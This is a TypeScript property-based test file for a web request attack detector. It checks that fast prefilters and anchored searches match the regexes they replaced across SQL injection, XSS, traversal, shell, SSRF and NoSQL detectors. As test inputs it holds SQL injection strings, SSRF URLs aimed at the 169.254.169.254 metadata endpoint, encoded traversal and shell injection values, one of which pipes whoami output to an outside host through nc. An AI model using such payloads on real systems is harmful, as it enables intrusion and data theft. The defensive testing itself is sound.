/**
 * The cheap paths in front of the detectors must never hide an attack. Each anchored search that
 * replaced a regex over the whole value (issue 20: the regex tried every character of a long value)
 * must find exactly what that regex finds; the raw-parameter prefilter must compute exactly the bits
 * the decoded parameter has; and long values, where only the decoded view is read, must still be
 * judged word by word (a long comment holding `&amp;` is not an evasion everywhere).
 */
import { strict as assert } from 'node:assert';
import { test } from 'node:test';
import fc from 'fast-check';
import { ALL_ATTACK_CATEGORIES, attackCategorySet, detectAttack } from '../src/attacks/index.js';
import { hasEscape } from '../src/attacks/decode/decoded-view.js';
import { gateFeatures, rawPartFeatures, scanFeatures } from '../src/attacks/features.js';
import { NOSQL_FEATURES } from '../src/attacks/nosql/detect-nosql.js';
import { PROTOTYPE_FEATURES } from '../src/attacks/prototype/detect-prototype-pollution.js';
import { SHELL_FEATURES } from '../src/attacks/shell/detect-shell.js';
import { SQLI_FEATURES } from '../src/attacks/sqli/detect-sqli.js';
import { SSRF_FEATURES } from '../src/attacks/ssrf/detect-ssrf.js';
import { TEMPLATE_FEATURES } from '../src/attacks/template/detect-template-injection.js';
import { TRAVERSAL_FEATURES } from '../src/attacks/traversal/detect-traversal.js';
import { XSS_FEATURES } from '../src/attacks/xss/detect-xss.js';
import { JS_BREAKOUT, jsBreakout } from '../src/attacks/nosql/detect-nosql.js';
import { nextSeparator } from '../src/attacks/shell/detect-shell.js';
import { detectSsrf } from '../src/attacks/ssrf/detect-ssrf.js';
import { hasHandlerShape } from '../src/attacks/xss/detect-xss.js';
import { percentDecode } from '../src/http/percent-decode.js';

/** Strings made of the pieces the searches look for, so random inputs hit their edge cases often. */
function pieces(...extra: string[]) {
  return fc
    .array(fc.constantFrom("'", '"', ' ', '\t', '\n', '\u00a0', '\u2003', ';', '|', '&', '$', '(', '=', 'a', 'O', 'n', 'N', 'on', 'onload', 'ONCLICK', 'x', '1', 'return', 'true', 'sleep(', 'this.', ...extra), { maxLength: 60 })
    .map((a) => a.join(''));
}

test('the handler-shape search finds exactly what /on[a-z]{3,}\\s*=/i finds', () => {
  const regex = /on[a-z]{3,}\s*=/i;
  fc.assert(fc.property(fc.oneof(pieces('onx', 'onxx', 'ón', '\u2028'), fc.string({ maxLength: 40 })), (s) => assert.equal(hasHandlerShape(s), regex.test(s), JSON.stringify(s))), { numRuns: 3000 });
  for (const s of ['<x onmouseover =1', 'onabc=', 'onab=', 'ONLOAD\u3000=', 'x on load=', 'aonabc\t\n=']) assert.equal(hasHandlerShape(s), regex.test(s), s);
});

test('the $where break-out search finds the first match JS_BREAKOUT finds, at the same place', () => {
  fc.assert(
    fc.property(fc.oneof(pieces('||', '&&', 'var ', 'function', "'1'=='1"), fc.string({ maxLength: 40 })), (s) => {
      const m = JS_BREAKOUT.exec(s);
      assert.equal(jsBreakout(s), m ? m.index : -1, JSON.stringify(s));
    }),
    { numRuns: 3000 },
  );
});

test('the escape search finds exactly what one regex over the value finds', () => {
  const regex = /%[0-9a-f]{2}|%u[0-9a-f]{4}|&#x?[0-9a-f]+|&[a-z]+;|\\[ux]/i;
  const parts = fc.constantFrom('%', '%2', '%27', '%u', '%u00', '%U0027', '&', '&#', '&#x', '&#X3c', '&lt', '&lt;', '&;', '\\', '\\u', '\\X', 'a', 'f', 'g', '9', ' ', ';');
  fc.assert(fc.property(fc.array(parts, { maxLength: 30 }).map((a) => a.join('')), (s) => assert.equal(hasEscape(s), regex.test(s), JSON.stringify(s))), { numRuns: 3000 });
});

test('the separator search visits exactly the positions the separator regex finds', () => {
  const regex = /[;|&\n\r`]|\$\(/g;
  fc.assert(
    fc.property(fc.array(fc.constantFrom(';', '|', '&', '\n', '\r', '`', '$', '$(', '(', 'a', ' '), { maxLength: 40 }).map((a) => a.join('')), (s) => {
      const expected: number[] = [];
      regex.lastIndex = 0;
      for (let m = regex.exec(s); m; m = regex.exec(s)) expected.push(m.index);
      const found: number[] = [];
      const next = [-2, -2, -2, -2, -2, -2, -2];
      for (let i = nextSeparator(s, 0, next); i >= 0; i = nextSeparator(s, i + 1, next)) found.push(i);
      // `$(` is one regex match of two characters: its `(` is never a separator, so the lists agree.
      assert.deepEqual(found, expected, JSON.stringify(s));
    }),
    { numRuns: 3000 },
  );
});

test('a raw query or form part has, before decoding, exactly the feature bits of its decoded text', () => {
  const part = fc.array(fc.constantFrom('a', 'Z', '0', '7', '+', '.', '..', '_', '__', '-', '--', "'", '"', '<', ';', '(', '/', ':', '=', '[', '{', '$', '\\', '*', '@', '#', '%27', '%', 'é'), { maxLength: 24 }).map((a) => a.join(''));
  fc.assert(
    fc.property(part, (raw) => {
      const bits = rawPartFeatures(raw, 0, raw.length);
      if (raw.includes('%') || /[^\x00-\x7f]/.test(raw)) return assert.equal(bits, -1, JSON.stringify(raw));
      assert.equal(bits, scanFeatures(percentDecode(raw, true)), JSON.stringify(raw));
    }),
    { numRuns: 3000 },
  );
});

test('on long values, the gate bits searched lazily decide every category exactly as a full feature scan does', () => {
  const all = [SQLI_FEATURES, XSS_FEATURES, TRAVERSAL_FEATURES, SHELL_FEATURES, SSRF_FEATURES, NOSQL_FEATURES, PROTOTYPE_FEATURES, TEMPLATE_FEATURES];
  const text = fc.array(fc.constantFrom('a', ' ', '1', '-', '(', "'", '"', ';', '<', '=', ':', '..', '/', '\\', '|', '&', '\n', '`', '$', '.', '[', '__', '{', '@', 'é'), { maxLength: 30 }).map((a) => a.join(''));
  fc.assert(
    fc.property(text, fc.subarray(all, { minLength: 1 }), (s, gates) => {
      const lazy = gateFeatures(s, gates);
      const full = scanFeatures(s);
      for (const gate of gates) assert.equal((lazy & gate) !== 0, (full & gate) !== 0, JSON.stringify(s));
    }),
    { numRuns: 3000 },
  );
});

test('a digits-only value skips SQL, but a number followed by SQL words does not, also behind spaces', () => {
  const sqli = attackCategorySet(['sqli']);
  assert.equal(detectAttack('12345', 'query', sqli), null);
  for (const v of ['1 or true', '1 union select 2', '1 order by 3', '-1 or 1=1', '(1) or 1=1', ' 1 or true', '( 1) or 1=1']) assert.ok(detectAttack(v, 'query', sqli), v);
  const raw = '1+union+select+2';
  assert.notEqual(rawPartFeatures(raw, 0, raw.length) & scanFeatures('1 union select 2'), 0);
});

test('a URL after a leading colon is still read for SSRF (the scan used to stop at a colon at index 0)', () => {
  for (const v of [':x http://127.0.0.1/', ': see http://169.254.169.254/latest/meta-data/', ':\\\\ http:\\\\127.1\\admin']) assert.ok(detectSsrf(v), v);
  assert.equal(detectSsrf(':x https://example.com/'), null);
});

test('in a long value read only decoded, a plain ../ link is no evasion; an encoded one still is', () => {
  const prose = 'Thanks for the help &amp; the patience with my questions. '.repeat(40);
  const plain = `${prose} The logo is at ../images/logo.png in the repo.`;
  assert.ok(plain.length > 1024);
  assert.equal(detectAttack(plain, 'body', ALL_ATTACK_CATEGORIES), null);
  const encoded = `${prose} The logo is at ..%2fimages/logo.png in the repo.`;
  assert.equal(detectAttack(encoded, 'body', ALL_ATTACK_CATEGORIES)?.category, 'traversal');
});

test('in long prose, a command word after & is not joined to a < or | far later in the text; a real redirect still is', () => {
  const shell = attackCategorySet(['shell']);
  const text = `We had A&W Root Beer on tap at the picnic. ${'Everyone brought something to share and stayed late. '.repeat(2)}Scores: 1 < 2 | 3`;
  assert.equal(detectAttack(text, 'body', shell), null);
  for (const v of ['x;echo hacked > /tmp/x', 'a&w root > /tmp/out', 'x|whoami | nc 203.0.113.9 80']) assert.equal(detectAttack(v, 'query', shell)?.category, 'shell', v);
});
